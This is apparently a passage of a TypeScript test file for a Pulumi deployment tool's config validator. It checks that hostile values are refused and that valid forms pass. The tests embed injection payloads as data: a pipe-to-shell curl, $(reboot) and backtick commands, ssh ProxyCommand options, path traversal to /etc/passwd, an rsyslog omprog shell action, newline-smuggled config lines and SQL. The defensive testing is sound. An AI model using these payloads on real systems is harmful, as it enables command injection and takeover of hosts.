  "a migrate command instead of a script name": { over: { "nodehost:app": JSON.stringify({ migrate: "prisma migrate deploy; curl x|sh" }) }, expected: ["nodehost:app.migrate: must be an npm script name such as migrate or db:migrate (letters, digits, ':', '.', '_', '-')"] },
  "a migrate script that is an npm option": { over: { "nodehost:app": JSON.stringify({ migrate: "--prefix=/etc" }) }, expected: ["nodehost:app.migrate: must be an npm script name such as migrate or db:migrate (letters, digits, ':', '.', '_', '-')"] },
  "a pm2 range (node-pm2 would reinstall on every run)": { over: { "nodehost:app": JSON.stringify({ pm2Version: "^6.0" }) }, expected: [`nodehost:app.pm2Version: ${PM2}`] },
  "a Slack channel with a newline": {
    over: { "nodehost:alerts": alerts({ slackChannel: "#ops\n#all" }), "nodehost:slackWebhookUrl": "https://hooks.slack.com/services/T0/B0/x" },
    extraSecrets: ["nodehost:slackWebhookUrl"],
    expected: [`nodehost:alerts.slackChannel: ${SLACK}`],
  },
  "a CA PEM with a command after the certificate": {
    over: { "nodehost:tls": tls({ caPem: `${CA_PEM_A}$(reboot)\n` }) },
    expected: [`nodehost:tls.caPem: ${CA_PEM}`],
  },
  "a CA PEM that is a private key": {
    over: { "nodehost:tls": tls({ caPem: "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n" }) },
    expected: [`nodehost:tls.caPem: ${CA_PEM}`],
  },
  "an existing host address with a shell command": {
    over: { "nodehost:existingHost": existingHost({ address: "host.example.net; reboot" }) },
    existingMode: true,
    expected: [`nodehost:existingHost.address: ${ADDRESS}`],
  },
  "an existing host address that is an ssh option": {
    over: { "nodehost:existingHost": existingHost({ address: "-oProxyCommand=reboot" }) },
    existingMode: true,
    expected: [`nodehost:existingHost.address: ${ADDRESS}`],
  },
  "a data device escaping /dev with '..'": {
    over: { "nodehost:existingHost": existingHost({ dataDevice: "/dev/../etc/passwd" }) },
    existingMode: true,
    expected: [`nodehost:existingHost.dataDevice: ${DEVICE}`],
  },
  "a data device with $(...)": {
    over: { "nodehost:existingHost": existingHost({ dataDevice: "/dev/sdb$(reboot)" }) },
    existingMode: true,
    expected: [`nodehost:existingHost.dataDevice: ${DEVICE}`],
  },
  "a droplet tag with a space": { over: { "nodehost:droplet": droplet({ tags: ["team", "prod env"] }) }, expected: [`nodehost:droplet.tags[1]: ${TAG}`] },
  "a public key whose comment hides a second line": {
    over: { "nodehost:ssh": ssh({ publicKeys: [`${TEST_PUBLIC_KEY}\nssh-ed25519 AAAAC3Nza attacker`] }) },
    expected: [`nodehost:ssh.publicKeys[0]: ${KEY_LINE}`],
  },
  "a passphrase-protected OpenSSH key": { over: { "nodehost:sshPrivateKey": opensshKey("aes256-ctr") }, expected: [`nodehost:sshPrivateKey: ${PASSPHRASE}`] },
  "a passphrase-protected PEM key (Proc-Type)": {
    over: {
      "nodehost:sshPrivateKey": "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0011223344556677\n\nAAAA\n-----END RSA PRIVATE KEY-----\n",
    },
    expected: [`nodehost:sshPrivateKey: ${PASSPHRASE}`],
  },
  "an encrypted PKCS#8 key": {
    over: { "nodehost:sshPrivateKey": "-----BEGIN ENCRYPTED PRIVATE KEY-----\nAAAA\n-----END ENCRYPTED PRIVATE KEY-----\n" },
    expected: [`nodehost:sshPrivateKey: ${PASSPHRASE}`],
  },
  "a backup secret key with a newline (a second s3cfg line)": {
    over: { "nodehost:backupSecretKey": "secret\nhost_base = evil.example" },
    existingMode: true,
    expected: ["nodehost:backupSecretKey: must be printable characters without whitespace"],
  },
  "a backup access key with a quote and $": {
    over: { "nodehost:backupAccessKey": "AKIA'$(reboot)" },
    existingMode: true,
    expected: [`nodehost:backupAccessKey: ${TOKEN_CHARS}`],
  },
  "a basic auth password with a newline": {
    over: { "nodehost:basicAuthPassword": "long-enough-password\nsecond line" },
    extraSecrets: ["nodehost:basicAuthPassword"],
    expected: ["nodehost:basicAuthPassword: must not contain line breaks or control characters"],
  },
  "a basic auth user with ':' (an htpasswd field separator)": {
    over: { "nodehost:nginx": JSON.stringify({ basicAuthUser: "admin:x" }) },
    expected: ["nodehost:nginx.basicAuthUser: must be letters, digits, '.', '_' and '-'"],
  },
  "a database name with SQL": { over: { "nodehost:database": JSON.stringify({ name: 'app"; DROP ROLE app; --' }) }, expected: ["nodehost:database.name: must be a lower-case identifier such as app"] },
  "a backup policy outside DigitalOcean's windows": {
    over: { "nodehost:droplet": droplet({ backups: true, backupPolicy: { plan: "monthly", weekday: "sunday", hour: 3, at: "x" } }) },
    expected: [
      'nodehost:droplet.backupPolicy.plan: Invalid option: expected one of "weekly"|"daily"',
      'nodehost:droplet.backupPolicy.weekday: Invalid option: expected one of "SUN"|"MON"|"TUE"|"WED"|"THU"|"FRI"|"SAT"',
      "nodehost:droplet.backupPolicy.hour: must be one of 0, 4, 8, 12, 16 or 20 (UTC)",
      "nodehost:droplet.backupPolicy.at: unknown key (misspelt?)",
    ],
  },
  "no DigitalOcean token in config or either variable": {
    over: { "digitalocean:token": undefined },
    expected: ["digitalocean:token: is required when hostMode is digitalocean (or set DIGITALOCEAN_TOKEN or DIGITALOCEAN_ACCESS_TOKEN)"],
  },
  // logs.forward lands in /etc/rsyslog.d as root: a quote would end rsyslog's string and add a
  // directive of its own (an omprog action runs a program).
  "a log host with a quote and an omprog action": {
    over: { "nodehost:logs": logs({ host: 'x" action(type="omprog" binary="/bin/sh -c id") x="' }) },
    expected: [`nodehost:logs.forward.host: ${ADDRESS}`],
  },
  "a log host with $(...)": { over: { "nodehost:logs": logs({ host: "$(reboot).example.net" }) }, expected: [`nodehost:logs.forward.host: ${ADDRESS}`] },
  "a log host with a newline": { over: { "nodehost:logs": logs({ host: "logs.example.net\n*.* /tmp/x" }) }, expected: [`nodehost:logs.forward.host: ${ADDRESS}`] },
  "a log host given as a URL": { over: { "nodehost:logs": logs({ host: "https://logs.example.net" }) }, expected: [`nodehost:logs.forward.host: ${ADDRESS}`] },
  "a log peer name with backticks": { over: { "nodehost:logs": logs({ peerName: "`id`.example.net" }) }, expected: [`nodehost:logs.forward.peerName: ${PEER}`] },
  "a log peer name with '..'": { over: { "nodehost:logs": logs({ peerName: "logs..example.net" }) }, expected: [`nodehost:logs.forward.peerName: ${PEER}`] },
  "a log receiver CA that is not PEM": {
    over: { "nodehost:logs": logs({ caPem: "-----BEGIN CERTIFICATE-----\n\"$(id)\"\n-----END CERTIFICATE-----\n" }) },
    expected: [`nodehost:logs.forward.caPem: ${CA_PEM}`],
  },
  "a log port out of range": { over: { "nodehost:logs": logs({ port: 70000 }) }, expected: ["nodehost:logs.forward.port: Too big: expected number to be <=65535"] },
  "log forwarding over plain UDP": { over: { "nodehost:logs": logs({ protocol: "udp" }) }, expected: ["nodehost:logs.forward.protocol: unknown key (misspelt?)"] },
  "several hostile values at once": {
    over: {
      "nodehost:backup": backup({ schedule: "* * * * *\n* * * * * root id", prefix: "`id`" }),
      "nodehost:app": JSON.stringify({ worker: "../x", gitRef: "$(id)" }),
    },
    names: { project: "nodehost", stack: "Prod" },
    expected: [
      `nodehost:app.gitRef: ${GIT_REF}`,
      `nodehost:app.worker: ${WORKER}`,
      `nodehost:backup.schedule: ${CRON}`,
      `nodehost:backup.prefix: ${PREFIX}`,
      STACK_NAME("nodehost-Prod"),
    ],
  },
};

/**
 * runProgram for a program that throws: Pulumi's mock runtime also leaves the error as unhandled
 * rejections (promises derived from the root Stack's outputs). Those are collected here (only
 * ConfigErrors; anything else still reaches vitest) so the file does not fail on them.
 */
async function runRefused(stack: string, program: () => unknown): Promise<{ run: Run; stray: unknown[] }> {
  const saved = process.listeners("unhandledRejection");
  const stray: unknown[] = [];
  const collect = (reason: unknown, promise: Promise<unknown>) => {
    if (reason instanceof ConfigError) stray.push(reason);
    else for (const l of saved) l(reason, promise);
  };
  process.removeAllListeners("unhandledRejection");
  process.on("unhandledRejection", collect);
  try {
    const run = await runProgram(stack, program);
    await new Promise((r) => setTimeout(r, 0));
    return { run, stray };
  } finally {
    process.off("unhandledRejection", collect);
    for (const l of saved) process.on("unhandledRejection", l);
  }
}

function badInput(b: Bad): { raw: Record<string, string>; secretKeys: string[]; n: { project: string; stack: string } } {
  const from = b.existingMode ? existing : base;
  return {
    raw: rawWith(b.over, from.raw),
    secretKeys: [...from.secretKeys, ...(b.extraSecrets ?? [])],
    n: b.names ?? names,
  };
}

describe("hostile or impossible values are refused, naming the key, before any resource", () => {
  test("the table has at least 30 cases", () => {
    expect(Object.keys(HOSTILE).length).toBeGreaterThanOrEqual(30);
  });

  test.each(Object.entries(HOSTILE))("%s", async (_name, bad) => {
    const { raw, secretKeys, n } = badInput(bad);
    const got = problemsOf(raw, secretKeys, n);
    expect(got).toEqual(bad.expected);
    // Secret values are never echoed.
    for (const k of secretKeys) if (bad.over[k] !== undefined) expect(got.join("\n")).not.toContain(bad.over[k]);

    const { run, stray } = await runRefused(n.stack, () => createStack(parseConfig(raw, secretKeys, n)));
    expect(run.error).toBeInstanceOf(ConfigError);
    for (const e of stray) expect(e).toBe(run.error);
    expect((run.error as ConfigError).problems).toEqual(bad.expected);
    expect(run.resources.length).toBe(0);
  });
});

// --- The forms that must keep working -----------------------------------------------------------

describe("allowed forms pass", () => {
  test.each([
    "s-1vcpu-512mb-10gb", "s-1vcpu-1gb", "s-1vcpu-2gb", "s-2vcpu-4gb", "s-2vcpu-4gb-amd", "s-4vcpu-8gb-intel",
    "s-8vcpu-16gb-480gb-intel", "c-2", "c-4-intel", "c2-2vcpu-4gb", "g-2vcpu-8gb", "gd-4vcpu-16gb",
    "g-2vcpu-8gb-intel", "m-2vcpu-16gb", "m3-4vcpu-32gb", "m6-2vcpu-16gb", "so-2vcpu-16gb", "so1_5-2vcpu-16gb",
    "so1_5-2vcpu-16gb-intel",
  ])("size %s", (size) => {
    expect(problems({ "nodehost:droplet": droplet({ size }) })).toEqual([]);
  });

  test.each(DROPLET_REGIONS.map((r) => [r]))("region %s", (region) => {
    expect(problems({ "nodehost:droplet": droplet({ region }) })).toEqual([]);
  });

  test("IPv4 and IPv6 addresses and CIDRs", () => {
    const list = ["203.0.113.7", "203.0.113.0/24", "0.0.0.0/0", "2001:db8::/32", "2001:db8::1", "::/0", "::1/128"];
    expect(problems({ "nodehost:ssh": ssh({ allowFrom: list }), "nodehost:nginx": JSON.stringify({ allowIps: list }) })).toEqual([]);
  });

  test.each(["10.10.0.0/20", "10.20.0.0/24", "172.16.0.0/16", "172.31.255.240/28", "192.168.1.0/28"])("VPC range %s", (vpcIpRange) => {
    expect(problems({ "nodehost:droplet": droplet({ vpcIpRange }) })).toEqual([]);
  });

  test("a stack name of exactly 48 characters, and production", () => {
    const stack = `p${"x".repeat(48 - "nodehost-".length - 1)}`;
    expect(`nodehost-${stack}`.length).toBe(48);
    for (const s of [stack, "production", "staging-2"]) {
      expect(problemsOf(base.raw, base.secretKeys, { project: "nodehost", stack: s })).toEqual([]);
    }
  });

  test("log receivers: names, addresses, a wildcard peer, a CA, either framing", () => {
    const ca = "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIU\n-----END CERTIFICATE-----\n";
    const forwards = [
      { host: "logs.example.net" }, { host: "203.0.113.9", port: 514, peerName: "logs.example.net" }, { host: "2001:db8::9" },
      { host: "logs5.papertrailapp.com", port: 12345, peerName: "*.papertrailapp.com", framing: "traditional" },
      { host: "10.0.2.2", peerName: "logs.nodehost.test", caPem: ca },
    ];
    for (const f of forwards) expect(problems({ "nodehost:logs": JSON.stringify({ forward: f }) }), JSON.stringify(f)).toEqual([]);
    expect(problems({ "nodehost:logs": "{}" })).toEqual([]);
  });

  test("backup prefixes, schedules and endpoints", () => {
    for (const prefix of ["", "e2e/", "site/db", "a.b_c-d/e"]) expect(problems({ "nodehost:backup": backup({ prefix }) })).toEqual([]);
    for (const schedule of ["0 */4 * * *", "30 2 * * 1-5", "0 3 1,15 * SUN", "0\t*/6\t*\t*\t*"]) {
      expect(problems({ "nodehost:backup": backup({ schedule }) })).toEqual([]);
    }
    const endpoints = [
      "https://fra1.digitaloceanspaces.com", "https://s3.example.net:9443/", "http://10.0.2.2:9000", "http://127.0.0.1:9000",
      "http://localhost:9000", "http://172.20.1.5:9000", "http://192.168.0.10", "http://[::1]:9000", "http://[fd00::10]:9000",
    ];
    for (const endpoint of endpoints) {
      const pointInTime = { enabled: !endpoint.startsWith("http://") };
      expect(problemsOf(rawWith({ "nodehost:backup": existingBackup({ endpoint, pointInTime }) }, existing.raw), existing.secretKeys)).toEqual([]);
    }
  });

  test("point-in-time recovery (on by default) needs an https endpoint: pgBackRest has no plain-HTTP S3", () => {
    expect(problemsOf(rawWith({ "nodehost:backup": existingBackup({ endpoint: "http://10.0.2.2:9000" }) }, existing.raw), existing.secretKeys)).toEqual([
      "nodehost:backup.pointInTime.enabled: needs an https:// backup.endpoint (pgBackRest talks to S3 over HTTPS only): set the endpoint's https URL, or false",
    ]);
    const pem = "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIU\n-----END CERTIFICATE-----\n";
    expect(problemsOf(rawWith({ "nodehost:backup": existingBackup({ endpoint: "https://10.0.2.2:9443", endpointCaPem: pem }) }, existing.raw), existing.secretKeys)).toEqual([]);
    expect(problems({ "nodehost:backup": backup({ endpointCaPem: "$(reboot)" }) })).toEqual([
      "nodehost:backup.endpointCaPem: must be PEM certificates only (-----BEGIN CERTIFICATE----- ... -----END CERTIFICATE-----)",
    ]);
    expect(problems({ "nodehost:backup": backup({ pointInTime: { archiveTimeoutSeconds: 5 } }) })[0]).toMatch(/^nodehost:backup\.pointInTime\.archiveTimeoutSeconds: /);
  });

  test("image references with a registry port, a path and a digest", () => {
    const images = {
      postgres: `registry.example.com:5000/library/postgres:16.4-bookworm@sha256:${"a".repeat(64)}`,
      redis: "ghcr.io/acme/redis:7.2",
      preloadDir: "/srv/images",
    };
    const c = parseConfig(rawWith({ "nodehost:images": JSON.stringify(images) }), base.secretKeys, names);
    expect(c.images).toEqual(images);
    expect(problems({ "nodehost:images": JSON.stringify({ postgres: POSTGRES.tag, redis: REDIS.tag, preloadDir: "" }) })).toEqual([]);
  });

  test("app sources, refs, workers, pm2 versions, migrations and ports", () => {
    const apps = [
      { source: "git", gitUrl: "https://github.com/acme/app.git", gitRef: "v1.2.0" },
      { worker: "worker.js", pm2Version: "6.0" },
      { worker: "dist/worker.js", pm2Version: "6.0.1" },
      { worker: "worker", pm2Version: "6" },
      { npmRegistry: "https://npm.example.com/repository/npm/" },
      { migrate: "db:migrate", port: 3000 },
      { migrate: "migrate", port: 65534 },
      // The seeds' shapes: a tsx server clustered on PORT with a worker script; a backend started
      // by npm with its worker file; a health path of its own, a memory limit, build variables.
      {
        processes: [
          { name: "web", file: "server.ts", interpreter: "tsx", instances: 2, mode: "cluster", web: true },
          { name: "worker", npm: "start:worker" },
        ],
        healthPath: "/healthz", memoryLimit: "1G", build: true, buildEnv: { NEXT_PUBLIC_API_URL: "https://example.org/api" },
      },
      { processes: [{ name: "backend", npm: "start", web: true }, { name: "jobs", file: "dist/worker.js", instances: 2 }], healthPath: "/api/v1/health.json" },
    ];
    for (const app of apps) expect([app, problems({ "nodehost:app": JSON.stringify(app) })]).toEqual([app, []]);
  });

  test("a private repository over SSH: a deploy key (secret) and the server's pinned keys", () => {
    const secretKeys = [...base.secretKeys, "nodehost:appGitDeployKey"];
    for (const gitUrl of ["git@github.com:acme/app.git", "ssh://git@git.example.com:2222/acme/app.git"]) {
      const app = { source: "git", gitUrl, gitRef: "release/2026-11", gitHostKeys: [`${TEST_PUBLIC_KEY.split(" ").slice(0, 2).join(" ")} github.com`] };
      expect([gitUrl, problems({ "nodehost:app": JSON.stringify(app), "nodehost:appGitDeployKey": opensshKey("none") }, secretKeys)]).toEqual([gitUrl, []]);
    }
  });

  test("nginx routes: a websocket endpoint with a long idle timeout, a proxy path, body sizes", () => {
    const nginx = {
      maxBodySize: "25m",
      routes: [
        { path: "/api/socketio", websocket: true, idleTimeoutSeconds: 3600 },
        { path: "/__proxy/", maxBodySize: "512k" },
        { path: "/uploads~v2/", maxBodySize: "65536" },
        { path: "/ws/prices", websocket: true, port: 3090 },
      ],
    };
    expect(problems({ "nodehost:nginx": JSON.stringify(nginx) })).toEqual([]);
  });

  test("Slack channel, CA bundle, tags and an unencrypted OpenSSH key", () => {
    const secretKeys = [...base.secretKeys, "nodehost:slackWebhookUrl"];
    expect(problems({
      "nodehost:alerts": alerts({ slackChannel: "#ops-alerts" }),
      "nodehost:slackWebhookUrl": "https://hooks.slack.com/services/T0/B0/x",
      "nodehost:tls": tls({ caPem: CA_PEM_TWO }),
      "nodehost:droplet": droplet({ tags: ["team:web", "env_staging", "k8s-free"] }),
      "nodehost:sshPrivateKey": opensshKey("none"),
      "nodehost:ssh": ssh({ publicKeys: [TEST_PUBLIC_KEY.replace("ops@test", "José's laptop (2026)")] }),
    }, secretKeys)).toEqual([]);
  });

  test("existing host addresses: names, IPv4, IPv6", () => {
    for (const address of ["host.example.net", "web-1", "192.0.2.20", "2001:db8::20", "::1"]) {
      expect(problemsOf(rawWith({ "nodehost:existingHost": existingHost({ address }) }, existing.raw), existing.secretKeys)).toEqual([]);
    }
  });

  test.each(["DIGITALOCEAN_TOKEN", "DIGITALOCEAN_ACCESS_TOKEN"])("the token may come from %s", (env) => {
    vi.stubEnv(env, "dop_v1_from_env");
    expect(problems({ "digitalocean:token": undefined })).toEqual([]);
  });

  test("ssh.registerKey and droplet.backupPolicy defaults, and a chosen policy", () => {
    const c = parseConfig(base.raw, base.secretKeys, names);
    expect(c.ssh.registerKey).toBe(true);
    expect(c.droplet.backupPolicy).toEqual({ plan: "weekly", weekday: "SUN", hour: 0 });
    const chosen = parseConfig(
      rawWith({
        "nodehost:ssh": ssh({ registerKey: false }),
        "nodehost:droplet": droplet({ backups: true, backupPolicy: { plan: "daily", hour: 20 } }),
      }),
      base.secretKeys,
      names,
    );
    expect(chosen.ssh.registerKey).toBe(false);
    expect(chosen.droplet.backupPolicy).toEqual({ plan: "daily", weekday: "SUN", hour: 20 });
  });
});

describe("the VM suite's config (test/e2e/lib/harness.ts e2eConfig) passes", () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "nodehost-config-test-"));
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  test("existing mode, Pebble over https, S3 over https://10.0.2.2 with its CA, prefix e2e/, the locally built image tags", () => {
    const privateKeyFile = path.join(dir, "id_ed25519");
    fs.writeFileSync(privateKeyFile, opensshKey("none"), { mode: 0o600 });
    // Only what e2eConfig reads; ports as startPebble/startS3 would pick them.
    const world = {
      key: { privateKeyFile, publicKey: TEST_PUBLIC_KEY.replace("ops@test", "nodehost-e2e") },
      pebble: { directoryUrl: `https://${HOST_FROM_GUEST}:14000/dir`, acmeCaPem: CA_PEM_TWO },
      s3: { endpoint: `https://${HOST_FROM_GUEST}:43210`, caPem: CA_PEM_TWO, accessKey: S3_ACCESS_KEY, secretKey: S3_SECRET_KEY },
      backupKey: { publicKey: fs.readFileSync(path.join(__dirname, "fixtures", "backup-public-key.asc"), "utf8") },
    } as unknown as World;
    const { raw, secretKeys } = e2eConfig(world, { ports: { ssh: 45022 } } as never);
    const c = parseConfig(raw, secretKeys, { project: "nodehost", stack: "e2e" });
    expect(c.hostMode).toBe("existing");
    expect(c.images).toMatchObject({ postgres: POSTGRES.tag, redis: REDIS.tag });
    expect(c.backup).toMatchObject({ endpoint: `https://${HOST_FROM_GUEST}:43210`, endpointCaPem: CA_PEM_TWO, prefix: "e2e/" });
    expect(c.backup.pointInTime.enabled).toBe(true);
    expect(c.backup.publicKeys).toHaveLength(1);
    expect(c.tls.acmeServer).toBe(`https://${HOST_FROM_GUEST}:14000/dir`);

    // The overrides the VM suite replays with.
    const bogusDevice = { address: "127.0.0.1", port: 45022, user: "deploy", dataDevice: "/dev/disk/by-id/virtio-no-such-volume" };
    const broken = e2eConfig(world, { ports: { ssh: 45022 } } as never, {
      existingHost: bogusDevice,
      app: { nodeSource: "npm-registry", source: "path", path: path.join(os.tmpdir(), "nodehost-broken-app-x") },
    });
    expect(() => parseConfig(broken.raw, broken.secretKeys, { project: "nodehost", stack: "e2e" })).not.toThrow();
  });
});

describe("the app's environment: app.env and appSecrets", () => {
  const secretKeys = [...base.secretKeys, "nodehost:appSecrets"];
  const VAR = "must be a variable name: letters, digits and '_', not starting with a digit";
  test("plain settings and secrets are kept apart: secrets as Pulumi secrets, numbers and booleans as text", async () => {
    const c = parseConfig({
      ...base.raw,
      "nodehost:app": JSON.stringify({ env: { LOG_LEVEL: "info", WORKERS: 4, FEATURE_X: true } }),
      "nodehost:appSecrets": JSON.stringify({ STRIPE_KEY: "sk_live_abc", MULTI: "line one\nline \"two\" $(id)" }),
    }, secretKeys, names);
    expect(c.app.env).toEqual({ LOG_LEVEL: "info", WORKERS: "4", FEATURE_X: "true" });
    expect(pulumi.Output.isInstance(c.appSecrets)).toBe(true);
    expect(await (c.appSecrets as unknown as { isSecret: Promise<boolean> }).isSecret).toBe(true);
  });
  test("appSecrets in plain text is refused without echoing a value", () => {
    const got = problems({ "nodehost:appSecrets": JSON.stringify({ STRIPE_KEY: "sk_live_plain_value" }) });
    expect(got).toEqual(["nodehost:appSecrets: must be set as a secret (pulumi config set --secret nodehost:appSecrets ...)"]);
    expect(got.join("\n")).not.toContain("sk_live_plain_value");
  });
  test("names the bad key: not a variable name, set by the stack, in both maps, NUL or too long", () => {
    expect(problems({ "nodehost:app": JSON.stringify({ env: { "1ST": "x", "A-B": "x", "X; reboot": "x", PORT: "1", DATABASE_URL: "x", N: null, Z: "a\u0000b", L: "x".repeat(32769) } }) }, secretKeys)).toEqual([
      `nodehost:app.env.1ST: ${VAR}`,
      `nodehost:app.env.A-B: ${VAR}`,
      `nodehost:app.env.X; reboot: ${VAR}`,
      "nodehost:app.env.PORT: is set by the stack (NODE_ENV, PORT, HOST, DATABASE_URL, REDIS_URL): choose another name",
      "nodehost:app.env.DATABASE_URL: is set by the stack (NODE_ENV, PORT, HOST, DATABASE_URL, REDIS_URL): choose another name",
      "nodehost:app.env.N: must be a string, number or boolean",
      "nodehost:app.env.Z: must be at most 32768 characters, without NUL",
      "nodehost:app.env.L: must be at most 32768 characters, without NUL",
    ]);
    const both = problems({ "nodehost:app": JSON.stringify({ env: { API_KEY: "plain" } }), "nodehost:appSecrets": JSON.stringify({ API_KEY: "sk_secret_value" }) }, secretKeys);
    expect(both).toEqual(["nodehost:app.env.API_KEY: is also in appSecrets: set it in one place"]);
    const bad = problems({ "nodehost:appSecrets": JSON.stringify({ "bad name": "sk_secret_value", REDIS_URL: "sk_other_value" }) }, secretKeys);
    expect(bad).toEqual([
      `nodehost:appSecrets.bad name: ${VAR}`,
      "nodehost:appSecrets.REDIS_URL: is set by the stack (NODE_ENV, PORT, HOST, DATABASE_URL, REDIS_URL): choose another name",
    ]);
    expect(bad.join("\n")).not.toMatch(/sk_(secret|other)_value/);
  });
});

describe("defaults a real user would pick", () => {
  test("alerts.none: true is the one way to run a stack without alerts", () => {
    const none = withUserValues({
      "nodehost:domain": "example.org",
      "nodehost:ssh": JSON.stringify({ allowFrom: ["198.51.100.1/32"] }),
      "nodehost:tls": JSON.stringify({ email: "ops@example.org" }),
      "nodehost:alerts": JSON.stringify({ none: true }),
    });
    expect(parseConfig(none.raw, none.secretKeys, { project: "nodehost", stack: "production" }).alerts.none).toBe(true);
  });

  test("a minimal config gets the seed values", () => {
    const minimal = withUserValues({
      "nodehost:domain": "example.org",
      "nodehost:ssh": JSON.stringify({ allowFrom: ["198.51.100.1/32"] }),
      "nodehost:tls": JSON.stringify({ email: "ops@example.org" }),
      "nodehost:alerts": JSON.stringify({ emails: ["ops@example.org"] }),
    });
    const c = parseConfig(minimal.raw, minimal.secretKeys, { project: "nodehost", stack: "production" });
    expect(c.droplet).toMatchObject({ size: "s-2vcpu-4gb", region: "fra1", image: "debian-13-x64", backups: false });
    expect(c.dns.ttl).toBe(600);
    expect(c.app).toMatchObject({ port: 3081, nodeMajor: 26, nodeSource: "nodesource", allowEndOfLifeNode: false });
    expect(c.updates).toEqual({ rebootAt: "04:30", runtimeAt: "04:00", imagesAt: "03:30" });
    expect(c.ssh.extraUsers).toEqual([]);
    expect(c.nginx).toMatchObject({ apiPublic: false, maxBodySize: "10m", routes: [] });
    expect(c.app).toMatchObject({ processes: [], healthPath: "/api/health", memoryLimit: "512M", buildEnv: {} });
    expect(c.images).toMatchObject({ postgres: "postgres:16", redis: "redis:7" });
    expect(c.backup).toMatchObject({ schedule: "0 */4 * * *", retentionLocalDays: 7, retentionRemoteDays: 30, localCopies: 14, allowEmptyStart: false, drillSchedule: "45 2 * * *" });
    expect(c.tls.acmeServer).toBe("https://acme-v02.api.letsencrypt.org/directory");
    expect(c.siteNames).toEqual(["example.org", "www.example.org"]);
  });

  test("a Node.js major past its end of life is refused unless the stack says so; the default is supported", () => {
    const withNode = (app: Record<string, unknown>) => {
      const v = withUserValues({
        "nodehost:domain": "example.org",
        "nodehost:ssh": JSON.stringify({ allowFrom: ["198.51.100.1/32"] }),
        "nodehost:tls": JSON.stringify({ email: "ops@example.org" }),
        "nodehost:alerts": JSON.stringify({ emails: ["ops@example.org"] }),
        "nodehost:app": JSON.stringify(app),
      });
      return (today: string) => parseConfig(v.raw, v.secretKeys, { project: "nodehost", stack: "production", today: new Date(today) });
    };
    expect(() => withNode({ nodeMajor: 20 })("2026-11-23")).toThrow(
      "nodehost:app.nodeMajor: Node.js 20 reached end of life on 2026-04-30 and gets no security fixes: choose 26 (the current LTS)",
    );
    expect(withNode({ nodeMajor: 20 })("2026-04-29").app.nodeMajor).toBe(20);
    expect(withNode({ nodeMajor: 20, allowEndOfLifeNode: true })("2026-11-23").app.nodeMajor).toBe(20);
    expect(() => withNode({ nodeMajor: 25 })("2026-11-23")).toThrow(/Node.js 25 reached end of life on 2026-06-01/);
    expect(withNode({ nodeMajor: 24 })("2026-11-23").app.nodeMajor).toBe(24);
    expect(withNode({})(new Date().toISOString()).app.nodeMajor).toBe(26);
    expect(NODE_END_OF_LIFE[withNode({})("2026-11-23").app.nodeMajor] > "2028-01-01").toBe(true);
  });

  test("a subdomain stack answers to the subdomain only", () => {
    expect(parseConfig(base.raw, base.secretKeys, names).siteNames).toEqual(["staging.example.com"]);
  });

  test("both checked-in stack files pass", () => {
    for (const stack of ["staging", "production"]) {
      const { raw, secretKeys } = withUserValues(stackFileConfig(stack));
      expect(problemsOf(raw, secretKeys, { project: "nodehost", stack })).toEqual([]);
    }
  });
});

describe("backup keys: backup.publicKeys and backupPreviousPassphrases", () => {
  const PUBLIC = fs.readFileSync(path.join(__dirname, "fixtures", "backup-public-key.asc"), "utf8");
  const KEY = "must be one ASCII-armored OpenPGP public key block (gpg --armor --export KEY), and never a private key";
  const withKeys = (publicKeys: unknown) => ({ "nodehost:backup": JSON.stringify({ publicKeys }) });
  test("an armored public key passes, with or without CRLF line ends; none is the default", () => {
    expect(problems(withKeys([PUBLIC, PUBLIC.replace(/\n/g, "\r\n")]))).toEqual([]);
    expect(parseConfig(base.raw, base.secretKeys, names).backup.publicKeys).toEqual([]);
  });
  test.each([
    ["a private key block", PUBLIC.replace(/PUBLIC KEY BLOCK/g, "PRIVATE KEY BLOCK")],
    ["a key with a shell line appended", PUBLIC + "$(reboot)\n"],
    ["two blocks in one entry", PUBLIC + PUBLIC],
    ["a fingerprint", "353FE618317B9E138F41F7E9B727797353281AD1"],
    ["a header line with a quote", PUBLIC.replace("\n\n", "\nComment: x\n'$(id)'\n\n")],
  ])("refuses %s, naming the entry", (_what, key) => {
    expect(problems(withKeys([PUBLIC, key]))).toEqual([`nodehost:backup.publicKeys[1]: ${KEY}`]);
  });
  test("previous passphrases must be secret, and each one a line of at least 20 characters, never echoed", () => {
    const old = "an-old-passphrase-from-last-year";
    const plain = problems({ "nodehost:backupPreviousPassphrases": JSON.stringify([old]) });
    expect(plain).toEqual(["nodehost:backupPreviousPassphrases: must be set as a secret (pulumi config set --secret nodehost:backupPreviousPassphrases ...)"]);
    const secretKeys = [...base.secretKeys, "nodehost:backupPreviousPassphrases"];
    const bad = problems({ "nodehost:backupPreviousPassphrases": JSON.stringify([old, "short-one", "two\nlines-of-a-passphrase-x"]) }, secretKeys);
    expect(bad).toEqual([
      "nodehost:backupPreviousPassphrases[1]: must be at least 20 characters",
      "nodehost:backupPreviousPassphrases[2]: must not contain line breaks or control characters",
    ]);
    expect(bad.join("\n")).not.toContain("short-one");
    expect(problems({ "nodehost:backupPreviousPassphrases": JSON.stringify([old]) }, secretKeys)).toEqual([]);
  });
});
